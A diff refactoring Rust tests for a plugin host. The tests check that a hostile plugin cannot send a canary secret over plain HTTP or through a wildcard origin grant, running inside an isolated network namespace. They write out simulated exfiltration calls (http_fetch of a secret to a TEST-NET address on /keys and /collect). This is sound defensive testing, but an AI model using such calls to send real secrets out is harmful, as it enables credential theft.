@@ -689,19 +689,18 @@ fn a_plugins_http_request_leaves_routing_headers_to_the_host() {
     );
 }
 
-#[test]
-fn a_plugins_secret_never_goes_over_plain_http_off_this_machine() {
+/// What the hostile plugin, granted `origins` and the secret, got back for sending the secret
+/// to `url` (a TEST-NET address), tried only inside a network namespace of the test's own:
+/// were the host to send anything, it would fail there, not reach another machine.
+fn secret_sent_in_own_netns(origins: &[&str], url: &str) -> String {
     let env = new_env();
-    // A TEST-NET address, tried only inside a network namespace of the test's own: were the
-    // host to send anything, it would fail there, not reach another machine.
-    let remote = "http://203.0.113.7:8080";
     let base = fetching_run(
         &env,
-        &[remote],
+        origins,
         vec![call(
             "h1",
             "http_fetch",
-            json!({ "url": format!("{remote}/keys"), "secret": "TACK_CANARY_TOKEN" }),
+            json!({ "url": url, "secret": "TACK_CANARY_TOKEN" }),
         )],
     );
     let mut command = env.command();
@@ -711,7 +710,13 @@ fn a_plugins_secret_never_goes_over_plain_http_off_this_machine() {
     let out = in_own_netns(command).output().expect("unshare runs");
     assert!(out.status.success(), "{}", stderr(&out));
     let events = json_events(&out);
-    let text = result_text(tool_event(&events, "tool_execution_end", "h1"));
+    result_text(tool_event(&events, "tool_execution_end", "h1"))
+}
+
+#[test]
+fn a_plugins_secret_never_goes_over_plain_http_off_this_machine() {
+    let remote = "http://203.0.113.7:8080";
+    let text = secret_sent_in_own_netns(&[remote], &format!("{remote}/keys"));
     assert!(
         text.starts_with("failed: ")
             && text.contains("the secret TACK_CANARY_TOKEN would travel in clear text"),
@@ -767,27 +772,8 @@ fn a_grant_of_any_public_address_reaches_nothing_on_this_machine() {
 
 #[test]
 fn a_secret_never_goes_where_only_a_wildcard_reaches() {
-    let env = new_env();
-    // A TEST-NET address counts as public; tried only inside a network namespace of the test's
-    // own, so nothing could leave the machine were the host to send it.
-    let remote = "https://203.0.113.7";
-    let base = fetching_run(
-        &env,
-        &["https://*"],
-        vec![call(
-            "h1",
-            "http_fetch",
-            json!({ "url": format!("{remote}/collect"), "secret": "TACK_CANARY_TOKEN" }),
-        )],
-    );
-    let mut command = env.command();
-    command
-        .env("TACK_CANARY_TOKEN", "canary-secret-value")
-        .args(args(&base, &["--mode", "json", "go"]));
-    let out = in_own_netns(command).output().expect("unshare runs");
-    assert!(out.status.success(), "{}", stderr(&out));
-    let events = json_events(&out);
-    let text = result_text(tool_event(&events, "tool_execution_end", "h1"));
+    // A TEST-NET address counts as public, so only the wildcard covers it.
+    let text = secret_sent_in_own_netns(&["https://*"], "https://203.0.113.7/collect");
     assert!(
         text.starts_with("failed: ")
             && text.contains(
